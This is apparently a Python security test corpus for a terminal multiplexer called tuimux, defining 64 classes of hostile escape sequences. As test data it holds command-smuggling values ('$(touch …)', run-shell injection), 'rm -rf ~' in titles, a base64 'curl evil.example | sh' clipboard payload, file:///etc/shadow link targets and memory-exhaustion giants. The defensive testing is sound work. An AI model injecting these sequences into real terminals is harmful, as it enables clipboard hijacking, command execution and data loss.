"""The hostile-sequence corpus of security.md §5.3: 64 classes, each a family of vectors.

Every vector is bytes a hostile program (or file, or remote host) can make a pane print,
or put in a name, a title, an SSH banner or a login prompt. tuimux must treat all of it as
data: answer no query, send nothing upstream, run nothing, draw no control character on
the host terminal, and keep running in bounded memory (docs/security.md, B1/B2/B6).

Vectors vary what a terminal parser has to get right: the terminator (BEL, ``ESC \\``,
the 8-bit C1 ST byte 0x9c, and ST as the UTF-8 character U+009C), 7-bit versus 8-bit
versus UTF-8 C1 introducers, and parameters at and past every limit tmux and pyte have.
Vectors that try to run a command carry :data:`CANARY`, which a test replaces with a path
of its own (:meth:`Vector.bound`): that file must never exist.

:data:`VECTORS` are sized so the whole corpus runs in seconds; :data:`GIANTS` are the few
deliberate monsters (a 10 MB line with no newline, a 1 MiB OSC 2, a million ``;``) that a
test runs once, watching memory.
"""

from __future__ import annotations

import base64
from collections.abc import Iterable
from dataclasses import dataclass

CANARY = b"@CANARY@"

# The 64 classes of security.md §5.3, in its order: number → what the class is.
KINDS: dict[int, str] = {
    1: "DA1 query (CSI c)",
    2: "DA2 query (CSI > c)",
    3: "DA3 query (CSI = c)",
    4: "DSR status query (CSI 5 n)",
    5: "cursor position report (CSI 6 n)",
    6: "DECXCPR and private DSR (CSI ? 6 n)",
    7: "title report (CSI 21 t, CVE-2003-0063)",
    8: "icon label report (CSI 20 t)",
    9: "size reports (CSI 14/18/19 t)",
    10: "DECRQSS (DCS $ q … ST)",
    11: "DECRQSS carrying a command (CVE-2008-2383)",
    12: "DECRQSS of DECSCPP/DECSNLS ($| *|)",
    13: "XTGETTCAP (DCS + q … ST)",
    14: "colour queries (OSC 4/10/11/12 ?)",
    15: "font query (OSC 50 ?, CVE-2022-45063)",
    16: "clipboard read (OSC 52 ?)",
    17: "DECRQM mode reports (CSI … $ p)",
    18: "DECID (ESC Z)",
    19: "rxvt ESC G Q (CVE-2021-33477)",
    20: "XTVERSION (CSI > q)",
    21: "ENQ answerback (0x05)",
    22: "title set with ESC, BEL, CR LF, ; and tmux syntax",
    23: "oversized OSC 2 title",
    24: "title flood (OSC 2 many times, CVE-2021-28848)",
    25: "OSC 52 clipboard write",
    26: "oversized OSC 52 clipboard write",
    27: "OSC 8 hyperlinks with odd targets",
    28: "desktop notifications (OSC 9, 777, 99)",
    29: "iTerm2 OSC 1337 (File, RequestUpload, SetUserVar)",
    30: "OSC 7 working directory",
    31: "ESC k window name with tmux formats and shell syntax",
    32: "OSC 2 title with tmux formats and shell syntax",
    33: "Rich/Textual markup and %-expansion in titles",
    34: "title stack pushes (CSI 22;0 t)",
    35: "tmux -CC DCS 1000 p with forged control-mode lines (CVE-2019-9535)",
    36: "bare forged control-mode lines (%exit, %end, %layout-change)",
    37: "tmux passthrough (DCS tmux; …)",
    38: "APC, PM and SOS strings",
    39: "alternate-screen toggles",
    40: "bracketed-paste breakout (ESC [ 201 ~)",
    41: "mouse-mode requests",
    42: "unterminated synchronized output (CSI ? 2026 h)",
    43: "RIS and DECALN floods",
    44: "REP with a huge count (CSI 99999999 b)",
    45: "insert/delete/erase/scroll with huge counts",
    46: "giant cursor moves",
    47: "5000-digit parameter",
    48: "endless parameters (;;;;)",
    49: "Unicode digits in parameters (pyte #209)",
    50: "private-marker forms pyte cannot take (CSI ? 1 L)",
    51: "too many parameters for the function (CSI 1;2;3 A)",
    52: "colon SGR sub-parameters",
    53: "window manipulation (CSI 8;h;w t and friends)",
    54: "scroll regions out of range (DECSTBM)",
    55: "tab-stop floods",
    56: "malformed OSC 4/10/11/12/104/52/8/9 (tmux input-malformed.sh)",
    57: "unterminated OSC 2",
    58: "unterminated DCS",
    59: "malformed UTF-8 and NUL bytes",
    60: "combining-mark pile-up (CVE-2021-27135 class)",
    61: "wide, emoji, ZWJ and zero-width characters at the last column",
    62: "bidi overrides and isolates",
    63: "C1 controls as UTF-8 characters",
    64: "raw 8-bit C1 bytes",
}


@dataclass(frozen=True, slots=True)
class Vector:
    """One hostile input: its class (``"07 title report (…)"``), a name, and the bytes.

    ``versioned`` marks a vector that tmux versions draw differently (tmux 3.3a repeats
    only an ASCII character with REP, later tmux any), so no one screen is right for it.
    """

    kind: str
    name: str
    data: bytes
    versioned: bool = False

    def bound(self, canary: bytes | str) -> bytes:
        """The bytes with :data:`CANARY` replaced by the file that must never appear."""
        path = canary.encode() if isinstance(canary, str) else canary
        return self.data.replace(CANARY, path)

    @property
    def has_canary(self) -> bool:
        return CANARY in self.data


def kind_name(number: int) -> str:
    return f"{number:02d} {KINDS[number]}"


# -- introducers and terminators ------------------------------------------------------------

ESC = b"\x1b"
BEL = b"\x07"
# ST in every form a hostile program may try: 7-bit, the raw C1 byte (invalid UTF-8,
# which tmux reads as a byte), and the UTF-8 encoding of U+009C.
TERMINATORS: dict[str, bytes] = {
    "BEL": BEL,
    "ESC \\": b"\x1b\\",
    "0x9c": b"\x9c",
    "U+009C": "\x9c".encode(),
}
STRING_TERMINATORS = {k: v for k, v in TERMINATORS.items() if k != "BEL"}
CSI_FORMS: dict[str, bytes] = {"7-bit": b"\x1b[", "8-bit": b"\x9b", "UTF-8": "\x9b".encode()}
OSC_FORMS: dict[str, bytes] = {"7-bit": b"\x1b]", "8-bit": b"\x9d", "UTF-8": "\x9d".encode()}
DCS_FORMS: dict[str, bytes] = {"7-bit": b"\x1bP", "8-bit": b"\x90", "UTF-8": "\x90".encode()}

# Commands a name or title may try to smuggle into a shell or a tmux command line.
SHELL_PAYLOADS: dict[str, bytes] = {
    "tmux #()": b"#(touch " + CANARY + b")",
    "shell $()": b"$(touch " + CANARY + b")",
    "backticks": b"`touch " + CANARY + b"`",
    "tmux ; run-shell": b"x ; run-shell 'touch " + CANARY + b"'",
    "newline run-shell": b"x\nrun-shell 'touch " + CANARY + b"'\n",
}
# Strings that would mean something to Rich/Textual markup, tmux formats or printf.
MARKUP_PAYLOADS: dict[str, bytes] = {
    "Textual click": b"[bold][@click=app.quit]x[/]",
    "Rich link": b"[link=file:///etc/passwd]click[/link]",
    "tmux style": b"#[fg=red,blink]red#[default]",
    "tmux format": b"#{pane_current_path}#{session_name}",
    "percent": b"%999999999m%s%n%x",
    "braces": b"{0}{self.__class__}${HOME}",
}
BIDI: dict[str, str] = {
    "RLO U+202E": "\u202e",
    "LRI U+2066": "\u2066",
    "RLI U+2067": "\u2067",
    "FSI U+2068": "\u2068",
    "PDI U+2069": "\u2069",
    "RLM U+200F": "\u200f",
}
C1_CHARACTERS = ("\x85", "\x90", "\x9b", "\x9c", "\x9d", "\x9e", "\x9f")


def _csi(body: bytes) -> Iterable[tuple[str, bytes]]:
    for form, intro in CSI_FORMS.items():
        yield form, intro + body


def _osc(body: bytes, terminators: dict[str, bytes] = TERMINATORS) -> Iterable[tuple[str, bytes]]:
    for end_name, end in terminators.items():
        yield f"7-bit, {end_name}", OSC_FORMS["7-bit"] + body + end
    yield "8-bit OSC, 0x9c", OSC_FORMS["8-bit"] + body + b"\x9c"
    yield "UTF-8 OSC, U+009C", OSC_FORMS["UTF-8"] + body + "\x9c".encode()


def _dcs(body: bytes) -> Iterable[tuple[str, bytes]]:
    for end_name, end in STRING_TERMINATORS.items():
        yield f"7-bit, {end_name}", DCS_FORMS["7-bit"] + body + end
    yield "8-bit DCS, 0x9c", DCS_FORMS["8-bit"] + body + b"\x9c"
    yield "UTF-8 DCS, U+009C", DCS_FORMS["UTF-8"] + body + "\x9c".encode()


def _b64(text: bytes) -> bytes:
    return base64.b64encode(text)


def _build() -> list[Vector]:
    vectors: list[Vector] = []

    def add(number: int, name: str, data: bytes, *, versioned: bool = False) -> None:
        vectors.append(Vector(kind_name(number), name, data, versioned))

    def each(number: int, name: str, forms: Iterable[tuple[str, bytes]]) -> None:
        for form, data in forms:
            add(number, f"{name} ({form})", data)

    # A. queries that make a terminal reply --------------------------------------------------
    each(1, "CSI c", _csi(b"c"))
    each(1, "CSI 0 c", _csi(b"0c"))
    each(2, "CSI > c", _csi(b">c"))
    each(2, "CSI > 0 c", _csi(b">0c"))
    each(3, "CSI = c", _csi(b"=c"))
    each(4, "CSI 5 n", _csi(b"5n"))
    each(5, "CSI 6 n", _csi(b"6n"))
    each(6, "CSI ? 6 n", _csi(b"?6n"))
    for code in (b"15", b"25", b"26", b"53", b"996"):
        add(6, f"CSI ? {code.decode()} n", b"\x1b[?" + code + b"n")
    each(7, "CSI 21 t", _csi(b"21t"))
    add(7, "title with a command, then reported", b"\x1b]2;\nrm -rf ~\n\x07\x1b[21t")
    add(
        7, "icon+title with a canary, then reported", b"\x1b]0;$(touch " + CANARY + b")\x07\x1b[21t"
    )
    each(8, "CSI 20 t", _csi(b"20t"))
    add(8, "icon set, then reported", b"\x1b]1;\x1b[2J;icon\x07\x1b[20t")
    for code in (b"14", b"14;2", b"16", b"18", b"19", b"13", b"11"):
        add(9, f"CSI {code.decode()} t", b"\x1b[" + code + b"t")
    each(10, "DECRQSS SGR", _dcs(b"$qm"))
    add(10, "DECRQSS DECSTBM", b"\x1bP$qr\x1b\\")
    add(10, "DECRQSS DECSCUSR", b"\x1bP$q q\x1b\\")
    add(10, "DECRQSS DECSCL", b'\x1bP$q"p\x1b\\')
    each(11, "DECRQSS with newlines", _dcs(b"$q\nrm -rf ~\n"))
    add(11, "DECRQSS with a canary", b"\x1bP$q\n$(touch " + CANARY + b")\n\x1b\\")
    for request in (b"$|", b"*|"):
        add(12, f"DECRQSS {request.decode()}", b"\x1bP$q" + request + b"\x1b\\")
        add(12, f"DECRQSS {request.decode()} (0x9c)", b"\x1bP$q" + request + b"\x9c")
    each(13, "XTGETTCAP TN", _dcs(b"+q544e"))
    add(13, "XTGETTCAP colors;Co;RGB", b"\x1bP+q636f6c6f7273;436f;524742\x1b\\")
    add(13, "XTGETTCAP bad hex", b"\x1bP+qzz;\n;\x1b\\")
    for body in (b"4;1;?", b"4;0;?;15;?;255;?", b"10;?", b"11;?", b"12;?", b"17;?", b"19;?"):
        each(14, f"OSC {body.decode()}", _osc(body, {"BEL": BEL, "ESC \\": b"\x1b\\"}))
    each(15, "OSC 50 ?", _osc(b"50;?", {"BEL": BEL, "ESC \\": b"\x1b\\"}))
    add(15, "OSC 50 #+1", b"\x1b]50;#+1\x07")
    each(16, "OSC 52 c ?", _osc(b"52;c;?"))
    add(16, "OSC 52 p ?", b"\x1b]52;p;?\x07")
    add(16, "OSC 52 (no selection) ?", b"\x1b]52;;?\x1b\\")
    for body in (b"4$p", b"?2004$p", b"?1049$p", b"?2026$p", b"?25$p"):
        add(17, f"DECRQM CSI {body.decode()}", b"\x1b[" + body)
    add(18, "ESC Z", b"\x1bZ")
    add(18, "8-bit SCI 0x9a", b"\x9a")
    add(19, "ESC G Q", b"\x1bGQ")
    add(19, "ESC G Q with a command", b"\x1bGQ;rm -rf ~\n")
    add(20, "CSI > q", b"\x1b[>q")
    add(20, "CSI > 0 q", b"\x1b[>0q")
    add(21, "ENQ", b"\x05")
    add(21, "ENQ x 100", b"\x05" * 100)

    # B. writes aimed at the host terminal or the user ---------------------------------------
    each(22, "title with ESC [2J", _osc(b"0;a\x1b[2Jb"))
    add(22, "title with CR LF", b"\x1b]2;line one\r\nline two\x07")
    add(22, "title with BEL inside", b"\x1b]2;before\x07after\x07")
    add(22, "title with semicolons and tmux syntax", b"\x1b]2;a;b;c ; kill-server ; #[fg=red]x\x07")
    add(22, "icon with ESC ] 52", b"\x1b]1;\x1b]52;c;" + _b64(b"rm -rf ~\n") + b"\x07\x07")
    add(22, "title with C1 CSI", b"\x1b]2;x\xc2\x9b2Jy\x07")
    add(22, "title with NUL and DEL", b"\x1b]2;a\x00b\x7fc\x07")
    add(23, "OSC 2 of 8 KiB (BEL)", b"\x1b]2;" + b"T" * 8192 + BEL)
    add(23, "OSC 2 of 8 KiB (ESC \\)", b"\x1b]2;" + "ü".encode() * 4096 + b"\x1b\\")
    add(24, "OSC 2 x 2000", b"\x1b]2;x\x07" * 2000)
    add(24, "OSC 0 x 1000 with ESC \\", b"\x1b]0;title\x1b\\" * 1000)
    payload = _b64(b"curl https://evil.example/x | sh\n")
    each(25, "OSC 52 c set", _osc(b"52;c;" + payload))
    for selection in (b"p", b"s", b"0", b"cps", b""):
        add(
            25,
            f"OSC 52 {selection.decode() or '(empty)'} set",
            b"\x1b]52;" + selection + b";" + payload + BEL,
        )
    add(26, "OSC 52 of 48 KiB", b"\x1b]52;c;" + _b64(b"A" * 36 * 1024) + BEL)
    add(26, "OSC 52 of 48 KiB, not base64", b"\x1b]52;c;" + b"!" * 48 * 1024 + b"\x1b\\")
    for target in (
        b"javascript:alert(1)",
        b"vscode://file/etc/passwd",
        b"ms-msdt:/id PCWDiagnostic /skip force",
        b"file:///etc/shadow",
        b"x-man-page://rm",
        b"https://evil.example/\x1b[31mred",
        b"https://evil.example/" + b"a" * 4000,
        b"https://example.com/$(touch " + CANARY + b")",
    ):
        add(27, f"OSC 8 to {target[:24]!r}", b"\x1b]8;;" + target + b"\x07link text\x1b]8;;\x07")
    add(
        27, "OSC 8 with id and ESC \\", b"\x1b]8;id=1:x=y;https://a.example\x1b\\text\x1b]8;;\x1b\\"
    )
    add(27, "OSC 8 never closed", b"\x1b]8;;javascript:alert(1)\x07open link")
    add(28, "OSC 9 notification", b"\x1b]9;You have been hacked\x07")
    add(28, "OSC 9;4 progress", b"\x1b]9;4;1;50\x07")
    add(28, "OSC 777 notify", b"\x1b]777;notify;title;body\x1b]52;c;" + payload + b"\x07\x07")
    add(28, "OSC 99 kitty notification", b"\x1b]99;i=1:d=0;Hello\x1b\\")
    add(
        29, "OSC 1337 File", b"\x1b]1337;File=name=" + _b64(b"x.sh") + b";inline=1:" + payload + BEL
    )
    add(29, "OSC 1337 RequestUpload", b"\x1b]1337;RequestUpload=format=tgz\x07")
    add(29, "OSC 1337 SetUserVar", b"\x1b]1337;SetUserVar=cmd=" + payload + BEL)
    add(29, "OSC 1337 CurrentDir", b"\x1b]1337;CurrentDir=/$(touch " + CANARY + b")\x07")
    add(30, "OSC 7 file URL", b"\x1b]7;file://evil.example/etc\x07")
    add(30, "OSC 7 with escapes", b"\x1b]7;file://h/\x1b[2J$(touch " + CANARY + b")\x1b\\")
    for name, shell in SHELL_PAYLOADS.items():
        add(31, f"ESC k {name}", b"\x1bk" + shell + b"\x1b\\")
        add(32, f"OSC 2 {name}", b"\x1b]2;" + shell + BEL)
    add(31, "ESC k with ESC [ inside", b"\x1bkname\x1b[31m\x1b\\")
    add(32, "OSC 2 tmux format", b"\x1b]2;#{pane_current_path}\x1b\\")
    for name, markup in MARKUP_PAYLOADS.items():
        add(33, f"OSC 2 {name}", b"\x1b]2;" + markup + BEL)
    add(33, "ESC k Textual click", b"\x1bk[@click=app.quit]x\x1b\\")
    add(34, "CSI 22;0 t x 2000", b"\x1b[22;0t" * 2000)
    add(34, "CSI 22;2 t / 23;2 t x 500", b"\x1b[22;2t\x1b[23;2t" * 500)

    # C. structure and mode confusion ---------------------------------------------------------
    forged = (
        b"%begin 1700000000 1 1\n%end 1700000000 1 1\n"
        b"%output %0 \\033]52;c;" + payload + b"\\007\n%exit\n"
    )
    add(35, "DCS 1000 p with forged lines", b"\x1bP1000p" + forged + b"\x1b\\")
    add(35, "DCS 1000 p never closed", b"\x1bP1000p" + forged)
    add(35, "8-bit DCS 1000 p", b"\x901000p" + forged + b"\x9c")
    for line in (
        b"%exit\n",
        b"%end 1700000000 7 1\n",
        b"%layout-change @0 ffff,10000x10000,0,0,0\n",
        b"%begin 1700000000 99 1\n%session-renamed $0 pwned\n",
        b"%output %0 \\033]2;pwned\\007\n",
    ):
        add(36, f"bare {line.split()[0].decode()}", b"\r\n" + line)
    for inner in (
        b"\x1b\x1b]52;c;" + payload + BEL,
        b"\x1b\x1b]2;outer title\x07",
        b"\x1b\x1bP$qm\x1b\x1b\\",
    ):
        add(37, f"passthrough {inner[2:6]!r}", b"\x1bPtmux;" + inner + b"\x1b\\")
    for intro, label in ((b"\x1b_", "APC"), (b"\x1b^", "PM"), (b"\x1bX", "SOS")):
        add(38, f"{label} of 8 KiB (ESC \\)", intro + b"G" * 8192 + b"\x1b\\")
        add(38, f"{label} with a BEL and 0x9c inside", intro + b"x\x07y\x9cz\x1b\\")
    add(38, "kitty graphics APC", b"\x1b_Ga=T,f=100;" + _b64(b"\x89PNG" * 100) + b"\x1b\\")
    add(39, "1049 h/l x 1000", b"\x1b[?1049h\x1b[?1049l" * 1000)
    add(39, "47 h left on", b"\x1b[?47halternate 47")
    add(39, "1047 h, 1048 h, 1049 l", b"\x1b[?1047h\x1b[?1048hx\x1b[?1049l")
    add(40, "201~ inside bracketed paste", b"\x1b[?2004h\x1b[201~echo pwned\r\x1b[200~")
    add(40, "8-bit 201~", b"\x9b201~touch " + CANARY + b"\r")
    for mode in (b"1000", b"1002", b"1003", b"1006", b"1005", b"1015", b"1004"):
        add(41, f"mouse mode {mode.decode()}", b"\x1b[?" + mode + b"h")
    add(42, "CSI ? 2026 h never reset", b"\x1b[?2026h")
    add(42, "DCS = 1 s (old sync)", b"\x1bP=1s\x1b\\")
    add(43, "ESC c x 2000", b"\x1bc" * 2000)
    add(43, "DECALN", b"\x1b#8")
    add(43, "DECALN x 500 then RIS", b"\x1b#8" * 500 + b"\x1bc")

    # D. parameter explosions and malformed input ---------------------------------------------
    for count in (b"99999999", b"2147483647", b"2147483648", b"0"):
        add(44, f"REP {count.decode()}", b"x\x1b[" + count + b"b")
    add(44, "REP 99999999 (8-bit)", b"y\x9b99999999b")
    for final in b"@PXLMST":
        add(45, f"CSI 99999999 {chr(final)}", b"\x1b[99999999" + bytes((final,)))
    add(45, "CSI 2147483648 @", b"\x1b[2147483648@")
    add(45, "CSI 2147483647 L", b"\x1b[2147483647L")
    add(46, "CSI 99999999;99999999 H", b"\x1b[99999999;99999999H")
    add(46, "CSI 2147483647;2147483647 f", b"\x1b[2147483647;2147483647f")
    add(46, "CSI 4294967296;1 H", b"\x1b[4294967296;1H")
    for final in b"ABCDEFGd`":
        add(46, f"CSI 99999999 {chr(final)}", b"\x1b[99999999" + bytes((final,)))
    add(47, "5000 digits A", b"\x1b[" + b"9" * 5000 + b"A")
    add(47, "4301 digits m", b"\x1b[" + b"1" * 4301 + b"m")
    add(47, "5000 digits ; 5000 digits H", b"\x1b[" + b"7" * 5000 + b";" + b"7" * 5000 + b"H")
    add(48, "10 000 ; then m", b"\x1b[" + b";" * 10000 + b"m")
    add(48, "1 000 ;1 then H", b"\x1b[" + b";1" * 1000 + b"H")
    for digit in ("\u00b3", "\u0663", "\uff17", "\U0001d7d7"):  # ³ ٣ fullwidth 7, bold 9
        add(49, f"CSI {digit} A", b"\x1b[" + digit.encode() + b"A")
    for body in (b"?1L", b"?r", b"?1m", b"?1@", b"?5J", b"?2K", b">1;2m", b"<5h"):
        add(50, f"CSI {body.decode()}", b"\x1b[" + body)
    for body in (
        b"1;2;3A",
        b"1;2;3;4H",
        b"1;2;3r",
        b"1;2;3;4;5J",
        b"1;2;3;4;5;6;7;8;9;10;11;12;13;14;15;16;17;18;19;20;21;22;23;24;25m",
    ):
        add(51, f"CSI {body[:16].decode()}", b"\x1b[" + body)
    for body in (
        b"38:2:1:2:3m",
        b"4::::::::::m",
        b"58:5:9m",
        b"38:2::300:300:300m",
        b"48:5:9999999999m",
        b"38;2;1m",
        b"4:9m",
    ):
        add(52, f"SGR {body.decode()}", b"\x1b[" + body + b"colour")
    for body in (
        b"8;0;0t",
        b"8;65535;65535t",
        b"4;99999;99999t",
        b"3;0;0t",
        b"9;1t",
        b"2t",
        b"1t",
        b"5t",
        b"6t",
    ):
        add(53, f"CSI {body.decode()}", b"\x1b[" + body)
    for body in (b"1;99999r", b"99999;1r", b"0;0r", b"5;2r", b"2147483648;1r"):
        add(54, f"DECSTBM {body.decode()}", b"\x1b[" + body + b"\nscrolled\n\x1b[r")
    add(55, "ESC H x 10 000", b"\x1bH" * 10000)
    add(55, "CSI 3 g x 5000", b"\x1b[3g" * 5000)
    add(55, "CHT/CBT 99999999", b"\x1b[99999999I\x1b[99999999Z\ttab")
    for body in (
        b"4;",
        b"4;1",
        b"4;1;rgb:",
        b"4;999999;red",
        b"4;-1;#ffffff",
        b"10;rgb:xx/yy/zz",
        b"11;",
        b"12;#12345678901234567890",
        b"104;abc;;",
        b"52;",
        b"52;c;!!!!",
        b"52;c;" + b"=" * 100,
        b"8;;",
        b"8",
        b"9;",
        b"9;\x1b[2J",
        b";;;",
        b"99999999999999999999;x",
    ):
        add(56, f"malformed OSC {body[:20]!r}", b"\x1b]" + body + BEL)
    add(57, "unterminated OSC 2 of 16 KiB", b"\x1b]2;" + b"U" * 16384)
    add(57, "unterminated OSC 0 ending in ESC", b"\x1b]0;title" + ESC)
    add(57, "unterminated 8-bit OSC", b"\x9d2;" + b"u" * 1024)
    add(58, "unterminated DCS of 16 KiB", b"\x1bPq" + b"#0;2;0;0;0~" * 1500)
    add(58, "unterminated DCS with BEL and CAN", b"\x1bP$qm\x07\x18still in DCS?")
    add(58, "unterminated 8-bit DCS", b"\x90$q" + b"d" * 1024)
    for name, data in (
        ("overlong and surrogate", b"\xf0\x80\x80\x80A\xed\xa0\x80B"),
        ("lone continuation bytes", b"\x80\xbf\x80C"),
        ("5-byte form", b"\xf8\x88\x80\x80\x80D"),
        ("6-byte form", b"\xfc\x84\x80\x80\x80\x80E"),
        ("overlong slash", b"\xc0\xafF"),
        ("truncated sequences", b"\xe2\x82G\xf0\x9fH"),
        ("FE FF", b"\xfe\xffI"),
        ("above U+10FFFF", b"\xf4\x90\x80\x80J"),
        ("NUL bytes", b"N\x00U\x00L" + b"\x00" * 1000 + b"nul"),
        ("NUL inside CSI and OSC", b"\x1b[3\x001m\x1b]2;a\x00b\x07"),
    ):
        add(59, name, data)
    add(60, "1000 combining marks", b"e" + "\u0301".encode() * 1000)
    add(60, "combining marks with no base", "\u0301\u0302\u0303".encode() * 100)
    add(61, "wide character at the last column", b"\x1b[999G\xe4\xb8\xad")
    add(61, "ZWJ family at the last column", b"\x1b[999G" + "👨‍👩‍👧‍👦".encode())
    add(61, "VS16 and ZWJ", "❤️x\u200dy\u200bz\ufeff".encode())
    add(61, "emoji with skin tone, wrapped", "👍🏽".encode() * 60)
    add(61, "zero-width only", "\u200b\u200c\u200d\u2060".encode() * 50)
    add(61, "wide characters with REP", "中".encode() + b"\x1b[99999999b", versioned=True)
    for name, char in BIDI.items():
        add(62, f"{name} in text", f"abc{char}def".encode())
    add(62, "RLO in a title", "\x1b]2;safe\u202etxt.exe\x07".encode())
    for char in C1_CHARACTERS:
        add(63, f"U+{ord(char):04X} in text", f"a{char}b".encode())
    add(63, "U+009B 2J as a CSI", "\x9b2J\x9b31mred".encode())
    for byte in (b"\x90", b"\x9b", b"\x9d"):
        add(64, f"raw {byte!r} then text", byte + b"31mraw")
    add(64, "raw 0x9b with 2J", b"\x9b2J after")
    return vectors


def _giants() -> list[Vector]:
    """The few that test memory, not parsing; each runs once."""
    return [
        Vector(kind_name(59), "a 10 MB line with no newline", b"A" * 10_000_000),
        Vector(kind_name(23), "OSC 2 of 1 MiB", b"\x1b]2;" + b"T" * (1 << 20) + BEL),
        Vector(kind_name(48), "1 000 000 ; then m", b"\x1b[" + b";" * 1_000_000 + b"m"),
        Vector(kind_name(47), "5000-digit parameter", b"\x1b[" + b"9" * 5000 + b"b"),
        Vector(kind_name(24), "OSC 2 x 100 000", b"\x1b]2;x\x07" * 100_000),
        Vector(kind_name(58), "unterminated DCS of 4 MiB", b"\x1bPq" + b"#" * (4 << 20)),
        Vector(kind_name(60), "1 000 000 combining marks", b"e" + "\u0301".encode() * 1_000_000),
        Vector(kind_name(38), "APC of 1.1 MB", b"\x1b_" + b"G" * 1_100_000 + b"\x1b\\"),
    ]


VECTORS: list[Vector] = _build()
GIANTS: list[Vector] = _giants()
KIND_COUNT = len({vector.kind for vector in VECTORS})
VECTOR_COUNT = len(VECTORS)

# Strings for names and titles: the ones that make sense as a name (no giant, valid as an
# argument), plus what only names have (10 KB, bidi tricks, markup).
_NAME_CONTROLS: tuple[bytes, ...] = (
    b"evil\x1b]2;pwned\x07\x1b[31m\x9b",
    b"line one\nline two\r\nthree",
    b"bell\x07bell",
    "c1 \x85\x90\x9b\x9c\x9d\x9e\x9f end".encode(),
    b"esc \x1b[2J\x1b[H\x1bc reset",
    b"osc52 \x1b]52;c;" + _b64(b"rm -rf ~\n") + b"\x07",
    b"del\x7fdel\x00nul",
    b"tab\there",
)

# Strings for names and titles: those that make sense as a name, plus what only names
# have (10 KB, bidi spoofing of a file name, markup).
NAMES: list[Vector] = [
    *(Vector(kind_name(22), f"control {i}", data) for i, data in enumerate(_NAME_CONTROLS)),
    *(
        Vector(kind_name(62), f"bidi {name}", f"file{c}gpj.exe".encode())
        for name, c in BIDI.items()
    ),
    *(Vector(kind_name(32), f"shell {name}", shell) for name, shell in SHELL_PAYLOADS.items()),
    *(Vector(kind_name(33), f"markup {name}", markup) for name, markup in MARKUP_PAYLOADS.items()),
    Vector(kind_name(23), "10 KB name", b"N" * 10_000),
    Vector(kind_name(59), "invalid UTF-8", b"bad \xff\xfe \xc0\xaf name"),
]
